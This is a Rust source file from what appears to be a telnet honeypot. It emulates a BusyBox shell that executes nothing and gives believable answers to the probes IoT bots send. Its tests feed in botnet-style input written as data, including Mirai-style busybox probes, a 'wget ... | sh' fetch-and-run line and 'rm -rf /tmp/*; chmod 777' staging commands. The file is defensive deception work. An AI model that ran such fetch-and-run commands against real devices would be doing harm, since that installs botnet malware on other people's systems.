//! A device's shell that runs nothing: it answers the probes by which bots tell a shell from a trap, and nothing else.

use super::Outcome;
use crate::{Telnet, telnet::device::Device};
use alloc::{
    format,
    string::{String, ToString},
    vec::Vec,
};
use honeymesh_types::WallTime;

/// Commands of one line that are answered.
const COMMANDS_MAX: usize = 16;
/// Words of one command that are looked at.
const WORDS_MAX: usize = 64;
/// What of a name is repeated, in bytes.
const SHOWN_BYTES_MAX: usize = 256;
/// Shells inside the first.
const DEPTH_MAX: u8 = 9;

pub(crate) const PROMPT: &[u8] = b"~ # ";

const MOUNTS: &[u8] = b"rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\nproc /proc proc rw,relatime 0 0\r\n\
    sysfs /sys sysfs rw,relatime 0 0\r\ntmpfs /dev tmpfs rw,relatime,size=64k,mode=755 0 0\r\n\
    devpts /dev/pts devpts rw,relatime,mode=600 0 0\r\ntmpfs /tmp tmpfs rw,relatime 0 0\r\n\
    tmpfs /var tmpfs rw,relatime 0 0\r\n";

/// The programs a device's busybox has; a bot that asks for another wants to hear that there is none.
const APPLETS: [&[u8]; 34] = [
    b"ash",
    b"cat",
    b"chmod",
    b"cp",
    b"cut",
    b"dd",
    b"df",
    b"echo",
    b"ftpget",
    b"grep",
    b"head",
    b"hostname",
    b"id",
    b"ifconfig",
    b"kill",
    b"killall",
    b"ls",
    b"mkdir",
    b"mount",
    b"mv",
    b"nc",
    b"passwd",
    b"ping",
    b"ps",
    b"reboot",
    b"rm",
    b"sh",
    b"sleep",
    b"tftp",
    b"top",
    b"umount",
    b"uname",
    b"uptime",
    b"wget",
];
/// What ash does itself, and the words of which its programs are made.
const BUILTINS: [&[u8]; 37] = [
    b"cd", b"export", b"unset", b"set", b"read", b"exec", b"eval", b"trap", b"true", b"false", b":", b".", b"[", b"test",
    b"ulimit", b"umask", b"wait", b"alias", b"history", b"help", b"shift", b"type", b"command", b"while", b"until", b"for",
    b"do", b"done", b"if", b"then", b"else", b"elif", b"fi", b"case", b"esac", b"{", b"}",
];
/// Where programs are that nobody brought: one that is not known there is none.
const PROGRAMS: [&[u8]; 5] = [b"/bin/", b"/sbin/", b"/usr/", b"/etc/", b"/lib/"];
/// Where files may be that somebody brought: what is in them is not shown.
const WRITABLE: [&[u8]; 4] = [b"/tmp/", b"/var/", b"/dev/", b"/mnt/"];

/// A shell, and those that were started in it.
#[derive(Debug, Default)]
pub(crate) struct Nested(u8);

/// What ash says when it starts.
pub(crate) fn greeting(device: &Telnet) -> &[u8] {
    &device.device.greeting
}

/// Appends what the shell prints.
pub(crate) fn run(line: &[u8], device: &Telnet, nested: &mut Nested, now: WallTime, answer: &mut Vec<u8>) -> Outcome {
    let ash = Ash { device, now };
    for (command, is_piped) in commands(line).take(COMMANDS_MAX) {
        let words: Vec<&[u8]> = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(WORDS_MAX).collect();
        if matches!(words.as_slice(), [b"exit" | b"logout", ..]) {
            if nested.0 == 0 {
                return Outcome::Exit;
            }
            nested.0 -= 1;
            continue;
        }
        // What goes to a file or a variable is not printed, and a shell that reads from a program says nothing.
        if !(command.contains(&b'>') || is_piped && is_shell(&words)) {
            ash.print(command, &words, nested, answer);
        }
    }
    Outcome::Prompt
}

/// The commands of a line, and whether they read what the one before prints.
fn commands(line: &[u8]) -> impl Iterator<Item = (&[u8], bool)> {
    let mut rest = line;
    let mut is_piped = false;
    core::iter::from_fn(move || {
        while !rest.is_empty() {
            let end = rest.iter().position(|byte| matches!(byte, b';' | b'&' | b'|')).unwrap_or(rest.len());
            let (command, behind) = rest.split_at(end);
            let (joint, further) = match behind {
                [b'&', b'&', further @ ..] | [b'|', b'|', further @ ..] => (false, further),
                [first, further @ ..] => (*first == b'|', further),
                [] => (false, behind),
            };
            rest = further;
            let was_piped = core::mem::replace(&mut is_piped, joint);
            let command = command.trim_ascii();
            if !command.is_empty() {
                return Some((command, was_piped));
            }
        }
        None
    })
}

fn is_shell(words: &[&[u8]]) -> bool {
    matches!(words, [b"sh" | b"/bin/sh" | b"ash" | b"/bin/ash"] | [b"busybox" | b"/bin/busybox", b"sh" | b"ash"])
}

struct Ash<'a> {
    device: &'a Telnet,
    now: WallTime,
}

impl Ash<'_> {
    fn print(&self, command: &[u8], words: &[&[u8]], nested: &mut Nested, answer: &mut Vec<u8>) {
        let device: &Device = &self.device.device;
        match words {
            [b"/bin/busybox" | b"busybox", rest @ ..] => self.applet(command, rest, nested, answer),
            [b"ls"] | [b"ls", b"/root" | b"." | b"~"] => {
                self.device.left.iter().for_each(|left| self.line(answer, left.0));
            }
            _ if is_shell(words) => {
                nested.0 = (nested.0 + 1).min(DEPTH_MAX);
                answer.extend_from_slice(&device.greeting);
            }
            [b"echo", ..] => echo(command, answer),
            [b"cat", file] => self.cat(file, answer),
            [b"mount"] => answer.extend_from_slice(MOUNTS),
            [b"uname", b"-a"] => {
                self.line(answer, &format!("Linux {} {} {} GNU/Linux", self.device.host, device.kernel, device.machine));
            }
            [b"uname", b"-r"] => self.line(answer, device.kernel.split(' ').next().unwrap_or_default()),
            [b"uname", b"-n"] | [b"hostname"] => self.line(answer, &self.device.host),
            [b"uname", b"-m"] => self.line(answer, device.machine),
            [b"uname"] => self.line(answer, "Linux"),
            [b"uptime"] => self.line(answer, &device.uptime(self.now)),
            [b"ifconfig", ..] => self.text(answer, &device.interfaces),
            [b"ps", ..] => self.text(answer, &device.processes),
            [b"id"] => self.line(answer, "uid=0(root) gid=0(root)"),
            [b"whoami"] => self.line(answer, "root"),
            [b"pwd"] => self.line(answer, "/root"),
            [word, ..] => self.unknown(word, nested, answer),
            [] => {}
        }
    }

    fn cat(&self, file: &[u8], answer: &mut Vec<u8>) {
        let device: &Device = &self.device.device;
        let left = self.device.left.iter().find(|left| file.ends_with(left.0.as_bytes()));
        match file {
            b"/proc/mounts" | b"/etc/mtab" => answer.extend_from_slice(MOUNTS),
            b"/bin/echo" | b"/bin/busybox" | b"/bin/sh" | b"/bin/ls" | b"/proc/self/exe" => {
                answer.extend_from_slice(device.program_head);
            }
            b"/proc/cpuinfo" => self.text(answer, device.processor),
            b"/proc/version" => self.line(answer, &device.version),
            b"/proc/uptime" => self.line(answer, &device.proc_uptime(self.now)),
            _ => match left {
                Some(left) => answer.extend_from_slice(left.1.as_bytes()),
                None if is_brought(file) => {}
                None => self.line(answer, &format!("cat: can't open '{}': No such file or directory", shown(file))),
            },
        }
    }

    /// What ash says to a command that is none; nothing to those that print nothing.
    fn unknown(&self, word: &[u8], nested: &Nested, answer: &mut Vec<u8>) {
        let name = PROGRAMS
            .iter()
            .find_map(|folder| word.strip_prefix(*folder))
            .map(|rest| rest.rsplit(|byte| *byte == b'/').next().unwrap_or_default());
        let is_known = |name: &[u8]| APPLETS.contains(&name) || BUILTINS.contains(&name);
        let is_there = match name {
            Some(name) => is_known(name),
            // Somebody brought it, and it runs.
            None if word.contains(&b'/') => true,
            None => {
                is_known(word)
                    || word.contains(&b'=')
                    || word.starts_with(b"(")
                    || word.starts_with(b"$")
                    || word.starts_with(b"#")
            }
        };
        if !is_there {
            let shell = if nested.0 == 0 { "-sh" } else { "sh" };
            self.line(answer, &format!("{shell}: {}: not found", shown(word)));
        }
    }

    fn applet(&self, command: &[u8], words: &[&[u8]], nested: &mut Nested, answer: &mut Vec<u8>) {
        match words {
            [] => answer.extend_from_slice(&self.device.device.multi_call),
            // busybox inside busybox is no probe.
            [b"busybox" | b"/bin/busybox", ..] => {}
            [applet, ..] if APPLETS.contains(applet) => {
                let at = memchr::memmem::find(command, applet).unwrap_or_default();
                self.print(&command[at..], words, nested, answer);
            }
            [applet, ..] => {
                answer.extend_from_slice(applet);
                answer.extend_from_slice(b": applet not found\r\n");
            }
        }
    }

    #[expect(clippy::unused_self, reason = "reads as the shell's")]
    fn line(&self, answer: &mut Vec<u8>, text: &str) {
        answer.extend_from_slice(text.as_bytes());
        answer.extend_from_slice(b"\r\n");
    }

    /// Lines, with the ends that a terminal gives them.
    fn text(&self, answer: &mut Vec<u8>, text: &str) {
        text.lines().for_each(|line| self.line(answer, line));
    }
}

fn is_brought(file: &[u8]) -> bool {
    !file.starts_with(b"/") || WRITABLE.iter().any(|folder| file.starts_with(folder))
}

fn shown(word: &[u8]) -> String {
    String::from_utf8_lossy(&word[..word.len().min(SHOWN_BYTES_MAX)]).to_string()
}

/// Quotes taken off.
fn echo(command: &[u8], answer: &mut Vec<u8>) {
    let text: Vec<u8> = command.iter().copied().filter(|byte| !matches!(byte, b'\'' | b'"')).collect();
    let words: Vec<&[u8]> = text.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).skip(1).collect();
    super::echo::echo(&words, b"\r\n", answer);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;
    use alloc::string::String;

    fn cam() -> Telnet {
        Telnet::default().named("cam").unwrap()
    }

    fn printed(line: &str) -> String {
        said(&both(line, &mut Nested::default()))
    }

    fn both(line: &str, nested: &mut Nested) -> Vec<u8> {
        let mut answer = Vec::new();
        let _ = run(line.as_bytes(), &cam(), nested, crate::drive::NOW, &mut answer);
        answer
    }

    #[test]
    fn probes_are_answered_as_ash_answers_them() {
        let telnet = cam();
        let device = &telnet.device;
        let uname = format!("Linux cam {} {} GNU/Linux\r\n", device.kernel, device.machine);
        let table = [
            ("enable", "-sh: enable: not found\r\n"),
            ("/bin/busybox MIRAI", "MIRAI: applet not found\r\n"),
            (
                "cat /nothing; /bin/busybox ECCHI",
                "cat: can't open '/nothing': No such file or directory\r\nECCHI: applet not found\r\n",
            ),
            ("busybox", core::str::from_utf8(&device.multi_call).unwrap()),
            (r"echo -e '\x6b\x61\x6d\x69'", "kami\r\n"),
            (r"/bin/busybox echo -ne '\x67a'", "ga"),
            ("echo hi there", "hi there\r\n"),
            ("echo -e x > /tmp/.f && cat /proc/mounts", core::str::from_utf8(MOUNTS).unwrap()),
            ("wget http://198.51.100.1/b -O- | sh", ""),
            ("sh", core::str::from_utf8(&device.greeting).unwrap()),
            ("cd /tmp || cd /var/run || cd /mnt", ""),
            ("rm -rf /tmp/*; chmod 777 a; ./a tcp; /tmp/a; A=b; while true; do x; done", ""),
            ("/bin/busybox wget http://198.51.100.1/b", ""),
            ("curl http://198.51.100.1/b; /usr/bin/python3 x", "-sh: curl: not found\r\n-sh: /usr/bin/python3: not found\r\n"),
            ("uname -a", &uname),
            ("id", "uid=0(root) gid=0(root)\r\n"),
            ("", ""),
        ];
        for (line, expected) in table {
            assert_eq!(printed(line), expected, "{line:?}");
        }
        assert!(both("cat /bin/echo", &mut Nested::default()).starts_with(b"\x7fELF"));
    }

    #[test]
    fn a_shell_in_the_shell_calls_itself_otherwise_and_is_left_first() {
        let mut nested = Nested::default();
        assert!(said(&both("sh", &mut nested)).contains("BusyBox v"));
        assert_eq!(said(&both("nosuch", &mut nested)), "sh: nosuch: not found\r\n");
        let leave = |nested: &mut Nested| run(b"exit", &cam(), nested, crate::drive::NOW, &mut Vec::new());
        assert_eq!((leave(&mut nested), leave(&mut nested)), (Outcome::Prompt, Outcome::Exit));
        (0..30).for_each(|_| drop(both("sh", &mut nested)));
        assert_eq!(nested.0, DEPTH_MAX);
    }

    #[test]
    fn it_can_be_left() {
        let mut answer = Vec::new();
        assert_eq!(run(b"id; exit; id", &cam(), &mut Nested::default(), crate::drive::NOW, &mut answer), Outcome::Exit);
        assert_eq!(said(&answer), "uid=0(root) gid=0(root)\r\n");
    }
}
